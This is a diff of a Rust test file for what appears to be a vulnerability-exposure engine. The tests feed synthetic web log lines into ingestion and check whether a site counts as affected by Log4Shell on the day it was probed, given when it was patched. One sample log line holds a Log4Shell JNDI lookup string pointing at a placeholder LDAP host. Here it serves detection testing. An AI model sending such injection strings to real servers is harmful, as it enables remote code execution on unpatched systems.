@@ -1,13 +1,13 @@
 //! Attempts joined with what the register knew about the site at that hour.
 
-use relight_engine::campaigns_of;
-use relight_engine::store::{DeploymentDraft, SnapshotDraft};
+use relight_engine::store::{DeploymentDraft, SnapshotDraft, Store};
 use relight_engine::watch::Feed;
+use relight_engine::{OnThatDay, Probed, Then, campaigns_of, probed};
 use relight_model::{
     AssetId, Campaign, Digest, Exposure, Flaw, FlawCode, Sbom, Severity, Timestamp,
 };
 
-use crate::engine::{Town, log4j, name};
+use crate::engine::{LOG4SHELL, Town, log4j, name};
 
 /// 2021-12-10T12:00:00Z.
 const NOON: Timestamp = 1_639_137_600;
@@ -25,6 +25,18 @@ use Known::{Deployment, Inventory};
 fn campaign(steps: Vec<Known>) -> Campaign {
     let town = Town::new(1);
     let store = town.engine.store();
+    learn(store, steps);
+    let site = store.sites().unwrap().remove(0);
+    let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
+    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x.test/a} \
+                HTTP/1.1\" 200 12 \"-\" \"curl/7.74.0\"\n";
+    town.engine.ingest_log(&feed, line.as_bytes()).unwrap();
+    let mut found = campaigns_of(store).unwrap();
+    assert_eq!((found.len(), name(0).as_str()), (1, site.slug.as_str()));
+    found.remove(0)
+}
+
+fn learn(store: &Store, steps: Vec<Known>) {
     let asset: AssetId = store.placements().unwrap()[0].1;
     for step in steps {
         match step {
@@ -40,14 +52,58 @@ fn campaign(steps: Vec<Known>) -> Campaign {
             }
         }
     }
+}
+
+/// A door is tried at noon; the hour is not kept, so the worst of that day counts.
+fn probed_at_noon(steps: Vec<Known>) -> Probed {
+    let town = Town::new(1);
+    let store = town.engine.store();
+    learn(store, steps);
     let site = store.sites().unwrap().remove(0);
     let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
-    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /?q=${jndi:ldap://x.test/a} \
-                HTTP/1.1\" 200 12 \"-\" \"curl/7.74.0\"\n";
+    let line = "192.0.2.7 - - [10/Dec/2021:12:00:00 +0000] \"GET /remote/login HTTP/1.1\" 404 9\n";
     town.engine.ingest_log(&feed, line.as_bytes()).unwrap();
-    let mut found = campaigns_of(store).unwrap();
-    assert_eq!((found.len(), name(0).as_str()), (1, site.slug.as_str()));
-    found.remove(0)
+    let then = Then::new(store, &[LOG4SHELL.to_owned()], 7 * 24 * HOUR).unwrap();
+    let on = |site, day| {
+        Ok(match then.exposure_between(site, day, LOG4SHELL)? {
+            Exposure::Affected => OnThatDay::Affected,
+            Exposure::Unknown => OnThatDay::Unknown,
+            Exposure::Clear => OnThatDay::Clear,
+        })
+    };
+    let day = NOON / (24 * HOUR);
+    let found = probed(store, &["vpn-remote-login"], [site.id], (day, day), &on).unwrap();
+    found[0].answer
+}
+
+#[test]
+fn a_site_that_was_patched_on_the_day_it_was_tried_was_vulnerable_that_day() {
+    let eve = NOON - 24 * HOUR;
+    let vulnerable = |at| Inventory(log4j("2.14.1"), at);
+    let patched = |at| Inventory(log4j("2.17.1"), at);
+    for (steps, expected) in [
+        (vec![patched(eve)], Probed::Clear),
+        (vec![vulnerable(eve), patched(NOON + HOUR)], Probed::Affected),
+        (vec![vulnerable(eve), patched(NOON - HOUR)], Probed::Affected),
+        (vec![patched(eve), vulnerable(NOON - HOUR), patched(NOON + HOUR)], Probed::Affected),
+        (vec![patched(eve), vulnerable(NOON + HOUR)], Probed::Affected),
+        (vec![vulnerable(eve), patched(NOON - 13 * HOUR)], Probed::Clear),
+        // What was there before the first inventory nobody knows.
+        (vec![patched(NOON - HOUR)], Probed::Unknown),
+        // Nor what ran between a deployment and the next inventory.
+        (
+            vec![
+                patched(eve),
+                Deployment(None, NOON - HOUR),
+                Inventory(log4j("2.17.2"), NOON + HOUR),
+            ],
+            Probed::Unknown,
+        ),
+        // Unless it is what ran before.
+        (vec![patched(eve), Deployment(None, NOON - HOUR), patched(NOON + HOUR)], Probed::Clear),
+    ] {
+        assert_eq!(probed_at_noon(steps), expected);
+    }
 }
 
 #[test]
